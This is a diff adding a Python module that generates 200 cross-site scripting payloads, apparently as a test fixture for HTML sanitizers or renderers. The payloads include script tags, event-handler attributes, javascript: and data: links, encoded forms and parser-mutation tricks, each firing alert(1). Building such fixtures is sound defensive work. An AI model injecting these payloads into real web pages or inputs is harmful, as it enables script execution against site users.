@@ -1,0 +1,100 @@
+"""Two hundred texts that would run as scripts where anything showed them as more than text."""
+
+from itertools import product
+from urllib.parse import quote
+
+CALL = "alert(1)"
+
+MARKUP = (
+    "<script>{0}</script>",
+    "<img src=x onerror={0}>",
+    "<svg onload={0}>",
+    "<svg><script>{0}</script></svg>",
+    "<svg><animate onbegin={0} attributeName=x dur=1s>",
+    "<body onload={0}>",
+    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
+    "<iframe src=javascript:{0}></iframe>",
+    "<object data=javascript:{0}></object>",
+    "<embed src=javascript:{0}>",
+    "<a href=javascript:{0}>x</a>",
+    "<form action=javascript:{0}><button>x</button></form>",
+    "<input autofocus onfocus={0}>",
+    "<details open ontoggle={0}>",
+    "<video><source onerror={0}></video>",
+    "<audio src=x onerror={0}></audio>",
+    "<math><mi xlink:href=javascript:{0}>x</mi></math>",
+    "<template><script>{0}</script></template>",
+    "<style>@import 'javascript:{0}';</style>",
+    "<link rel=stylesheet href=javascript:{0}>",
+    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
+    "<base href=javascript:{0}//>",
+    "<marquee onstart={0}>x</marquee>",
+    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
+    "<div style=width:expression({0})>x</div>",
+    "<xss onpointerenter={0} style=display:block;position:fixed;inset:0>",
+)
+AROUND = (
+    "{0}",
+    "\"'>{0}",
+    "</title></textarea></script>{0}",
+    "-->{0}<!--",
+    "]]>{0}",
+    "{{{{constructor.constructor('alert(1)')()}}}}{0}",
+)
+LINKS = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "\x01javascript:alert(1)",
+    " javascript:alert(1)",
+    "javascript://example.edu/%0aalert(1)",
+    "javascript&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "blob:https://example.edu/x",
+    "filesystem:https://example.edu/x",
+    "view-source:javascript:alert(1)",
+    'https://example.edu/"onmouseover=alert(1) x="',
+    "https://example.edu/'><script>alert(1)</script>",
+    "//example.edu/<svg onload=alert(1)>",
+    "[x](javascript:alert(1))",
+    "![x](https://example.edu/x?onerror=alert(1))",
+    "<javascript:alert(1)>",
+    "`<img src=x onerror=alert(1)>`",
+)
+CODED = (
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "\\u003cimg src=x onerror=alert(1)\\u003e",
+    quote("<svg onload=alert(1)>"),
+)
+MUTATED = (
+    "<img/src=x/onerror=alert(1)>",
+    "<IMG SRC=x oNeRrOr=alert(1)>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=`x`onerror=alert(1)>",
+    "<\x00script>alert(1)</script>",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "<svg/onload=&#97;lert(1)>",
+    '<img src=x onerror="&#x61;lert(1)">',
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
+    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
+    "<p id='</p><img src=x onerror=alert(1)>'>",
+    "\u202e<img src=x onerror=alert(1)>",
+    "</span><img src=x onerror=alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<?xml version='1.0'?><svg onload=alert(1)>",
+    "<a href='x' onclick='alert(1)' autofocus tabindex=0 onfocus=alert(1)>x</a>",
+    "';alert(1);//",
+    '";alert(1);//',
+    "${alert(1)}",
+    "</script><script>alert(1)</script>",
+)
+PAYLOADS: tuple[str, ...] = (
+    *(around.format(markup.format(CALL)) for around, markup in product(AROUND, MARKUP)),
+    *LINKS,
+    *CODED,
+    *MUTATED,
+)[:200]
